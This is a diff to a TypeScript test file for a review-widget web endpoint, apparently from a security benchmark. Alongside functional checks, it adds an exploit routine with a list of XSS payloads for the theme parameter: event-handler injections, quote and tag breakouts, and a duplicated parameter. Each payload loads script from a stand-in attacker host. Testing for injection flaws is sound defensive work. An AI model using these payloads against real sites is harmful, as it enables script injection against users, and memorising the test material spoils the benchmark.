@@ -1,45 +1,59 @@
 import assert from 'node:assert/strict'
 import Fastify from 'fastify'
 import { scriptsOf, tagsOf } from '#proof/page'
+import type { Breach, Vary } from '#proof/vary'
 
 type Code = typeof import('./review-widget.ts')
 
-const lamp = {
-  key: 'lamp-3',
-  name: 'Lamp <3>',
-  reviews: [{ author: 'Ada "A."', stars: 4, text: "<i>It's</i> bright" }],
-}
-
-async function open({ reviewWidget }: Code, query: Record<string, string>) {
+function ask({ reviewWidget }: Code, query: Record<string, string | string[]>, author = 'Ada', product = 'lamp-3') {
+  const lamp = { key: 'lamp-3', name: 'Lamp <3>', reviews: [{ author, stars: 4, text: "<i>It's</i> bright" }] }
   const app = Fastify()
   reviewWidget(app, { find: async (key) => (key === 'lamp-3' ? lamp : undefined) })
-  assert.equal((await app.inject('/widgets/reviews/none')).statusCode, 404)
-  return (await app.inject({ url: '/widgets/reviews/lamp-3', query })).body
+  return app.inject({ url: `/widgets/reviews/${product}`, query })
 }
 
-export async function works(code: Code) {
-  const html = await open(code, { theme: 'acme-dark', lang: 'de' })
+const open = async (...args: Parameters<typeof ask>): Promise<string> => (await ask(...args)).body
+
+export async function works(code: Code, vary: Vary) {
+  const theme = `${vary.word()}-${vary.pick(['dark', 'light', 'wide'])}`
+  const lang = vary.pick(['de', 'fr', 'pl'])
+  const author = `${vary.name()} "${vary.name()}" O'${vary.name()}`
+  const html = await open(code, { theme, lang }, author)
   const find = (wanted: string) => tagsOf(html).find(({ name }) => name === wanted)
-  assert.deepEqual(find('body')?.attributes, { class: 'acme-dark' })
-  assert.deepEqual(find('html')?.attributes, { lang: 'de' })
-  assert.equal(find('blockquote')?.text, "<i>It's</i> bright")
-  assert.equal(find('a')?.text, 'Lamp <3>')
+  assert.deepEqual(find('body')?.attributes, { class: theme }, `The theme ${theme} should be the class of the body.`)
+  assert.deepEqual(find('html')?.attributes, { lang }, `The language ${lang} should be named in the page.`)
+  assert.equal(find('b')?.text, author, `The name ${author} should be shown as it is.`)
+  assert.equal(find('blockquote')?.text, "<i>It's</i> bright", 'The text of a review should be shown as it is.')
+  assert.equal(find('a')?.text, 'Lamp <3>', 'The link should show the name of the product.')
   const plain = await open(code, { lang: 'x onload=y' })
-  assert.deepEqual(scriptsOf(plain), [])
-  assert.equal(tagsOf(plain).find(({ name }) => name === 'body')?.attributes.class, 'light')
+  assert.deepEqual(scriptsOf(plain), [], 'A language that does not exist should be replaced by English.')
+  assert.equal(tagsOf(plain).find(({ name }) => name === 'body')?.attributes.class, 'light', 'Without a theme the class should be light.')
+  const missing = await ask(code, { theme, lang }, author, vary.word())
+  assert.equal(missing.statusCode, 404, 'A product that does not exist should be answered with 404.')
 }
 
-const script = 'import(`//attacker.example/v.js`)'
-const forms = [
+const formsOf = (script: string) => [
   `dark onload=${script}`,
   `dark\tonload=${script}`,
+  `dark\nonload=${script}`,
+  `dark\ronload=${script}`,
+  `dark\fonload=${script}`,
   `dark onpageshow=${script}`,
+  `dark OnLoad=${script}`,
   `dark' onload='${script}`,
   `dark" onload="${script}`,
+  `dark'\fonload='${script}`,
+  `><svg onload=${script}>`,
+  `'><svg onload=${script}>`,
+  // The parameter twice, which makes it a list.
+  ['dark', ` onload=${script}`],
 ]
 
-export async function exploit(code: Code, _vary?: unknown, payloads = forms): Promise<boolean> {
-  for (const theme of payloads) if (scriptsOf(await open(code, { theme })).includes(script)) return true
+export async function exploit(code: Code, vary: Vary, payloads?: readonly string[]): Promise<false | Breach> {
+  for (const theme of payloads ?? formsOf(`import(\`//attacker.example/${vary.word()}\`)`)) {
+    const script = scriptsOf(await open(code, { theme })).find((one) => one.startsWith('import(`//attacker.example/'))
+    if (script) return { sent: `theme=${[theme].flat().join('&theme=')}`, got: `The browser runs ${script}` }
+  }
   return false
 }
 
